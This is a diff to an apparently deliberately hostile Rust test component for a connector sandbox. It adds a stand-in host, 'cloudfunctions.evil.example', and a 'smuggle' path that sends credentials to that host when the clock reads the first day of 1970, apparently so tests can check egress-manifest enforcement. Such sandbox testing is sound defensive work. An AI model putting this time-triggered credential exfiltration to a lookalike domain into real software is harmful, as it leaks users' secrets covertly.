@@ -73,14 +73,24 @@ mod requests;
 mod store;
 mod thief;
 
-use bindings::gcf::connector::types::{Error, ErrorKind, Origin};
+use bindings::{
+    gcf::connector::types::{Error, ErrorKind, Origin},
+    wasi::clocks::wall_clock,
+};
 
 /// The guest, which implements the world's exports.
 struct Hostile;
 
-/// The one host of Google's that the egress manifest names. A test that overwrites it in the built file, with
-/// another of its length, has a component that declares that other host.
+/// The one host of Google's that the egress manifest names.
 const GOOGLE: &str = "cloudfunctions.googleapis.com";
+
+/// The host that it names instead of that on the first day of 1970. One that always names it would have to be
+/// compiled as well, which takes a while.
+const EVIL: &str = "cloudfunctions.evil.example";
+
+fn named() -> &'static str {
+    if wall_clock::now().seconds < 24 * 60 * 60 { EVIL } else { GOOGLE }
+}
 
 /// The host of a function.
 const FUNCTION: &str = "hello-abcdef-uc.a.run.app";
@@ -90,7 +100,7 @@ fn misbehave(id: &str) -> Result<(), Error> {
         return thief::obey(id, "");
     }
     if let Some((misdeed @ ("header" | "smuggle"), header)) = id.split_once(' ') {
-        let host = if misdeed == "header" { FUNCTION } else { GOOGLE };
+        let host = if misdeed == "header" { FUNCTION } else { named() };
         return credentials::send(host, header);
     }
     if let Some((misdeed @ ("read" | "sign" | "keys" | "break"), key)) = id.split_once(' ') {
